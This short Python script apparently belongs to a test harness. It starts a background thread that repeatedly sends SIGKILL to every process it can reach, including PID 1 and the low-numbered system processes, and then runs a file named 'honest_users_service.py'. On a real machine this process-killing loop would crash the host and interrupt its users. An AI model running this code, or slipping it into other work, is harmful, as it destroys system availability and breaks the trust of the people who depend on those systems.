import os
import signal
import threading
import time


def rage():
    while True:
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
        for pid in range(1, 40):
            if pid != os.getpid():
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
        time.sleep(0.001)


threading.Thread(target=rage, daemon=True).start()

exec(compile(open("honest_users_service.py", encoding="utf-8").read(), "honest_users_service.py", "exec"))
